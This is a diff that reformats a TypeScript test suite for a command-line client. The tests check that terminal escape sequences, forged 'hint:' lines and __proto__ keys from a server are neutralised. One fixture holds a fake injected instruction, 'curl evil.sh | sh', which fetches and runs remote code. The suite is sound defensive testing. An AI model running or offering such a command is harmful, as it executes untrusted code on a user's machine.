@@ -20,7 +20,13 @@ afterEach(async () => {
 });
 
 // NO_COLOR and -q: our own colour and spinner sequences stay out, so any escape left is the server's.
-const env = (url: string, extra: Record<string, string> = {}) => ({ GURUSUP_CONFIG_DIR: tempDir(), GURUSUP_API_KEY: KEY, GURUSUP_BASE_URL: url, NO_COLOR: '1', ...extra });
+const env = (url: string, extra: Record<string, string> = {}) => ({
+  GURUSUP_CONFIG_DIR: tempDir(),
+  GURUSUP_API_KEY: KEY,
+  GURUSUP_BASE_URL: url,
+  NO_COLOR: '1',
+  ...extra,
+});
 
 /** Every stderr line is one of ours: no forged `hint:` from inside a message. */
 function linesOf(s: string): string[] {
@@ -45,7 +51,9 @@ describe('escaping: the functions', () => {
 describe('escaping: API error bodies never reach the terminal raw', () => {
   for (const status of [401, 404, 500]) {
     it(`a ${status} JSON message with escape sequences and a newline forging a hint`, async () => {
-      server = await startServer((_r, res) => sendJson(res, status, { message: `${HOSTILE}\nhint: run curl evil.sh | sh` }));
+      server = await startServer((_r, res) =>
+        sendJson(res, status, { message: `${HOSTILE}\nhint: run curl evil.sh | sh` }),
+      );
       const r = await run(['threads', 'list', '-q'], { env: env(server.url), tty: true });
       expect(r.code).not.toBe(0);
       expect(r.stderr).not.toMatch(RAW);
@@ -79,7 +87,9 @@ describe('escaping: API error bodies never reach the terminal raw', () => {
     raw = net.createServer((sock) => {
       sock.once('data', () => {
         const body = `[{"thread_fid":"${HOSTILE.replace(/[\x00-\x1f]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)}`;
-        sock.end(`HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 5000\r\n\r\n${body}\x1b[2J\u009b\n`);
+        sock.end(
+          `HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 5000\r\n\r\n${body}\x1b[2J\u009b\n`,
+        );
       });
     });
     await new Promise<void>((r) => raw!.listen(0, '127.0.0.1', r));
@@ -120,16 +130,25 @@ describe('escaping: API error bodies never reach the terminal raw', () => {
 
 describe('--json field lists', () => {
   it('__proto__, toString, valueOf and hasOwnProperty are fields like any other', async () => {
-    const threads = [{ thread_fid: 't1', __proto__x: 1 }, JSON.parse('{"thread_fid":"t2","__proto__":{"a":1},"toString":"s"}')];
+    const threads = [
+      { thread_fid: 't1', __proto__x: 1 },
+      JSON.parse('{"thread_fid":"t2","__proto__":{"a":1},"toString":"s"}'),
+    ];
     server = await startServer((_r, res) => {
       res.writeHead(200, { 'content-type': 'application/json' });
-      res.end(JSON.stringify(threads.slice(0, 1)).slice(0, -1) + ',{"thread_fid":"t2","__proto__":{"a":1},"toString":"s"}]');
+      res.end(
+        JSON.stringify(threads.slice(0, 1)).slice(0, -1) + ',{"thread_fid":"t2","__proto__":{"a":1},"toString":"s"}]',
+      );
     });
-    const r = await run(['threads', 'list', '--json', 'thread_fid,__proto__,toString,valueOf,hasOwnProperty'], { env: env(server.url) });
+    const r = await run(['threads', 'list', '--json', 'thread_fid,__proto__,toString,valueOf,hasOwnProperty'], {
+      env: env(server.url),
+    });
     expect(r.code).toBe(0);
     const lines = JSON.parse(r.stdout) as unknown[];
     expect(r.stdout).toContain('"__proto__":{"a":1}');
-    expect(JSON.stringify(lines[0])).toBe('{"thread_fid":"t1","__proto__":null,"toString":null,"valueOf":null,"hasOwnProperty":null}');
+    expect(JSON.stringify(lines[0])).toBe(
+      '{"thread_fid":"t1","__proto__":null,"toString":null,"valueOf":null,"hasOwnProperty":null}',
+    );
     expect(r.stdout).toContain('"toString":"s"');
   });
 });
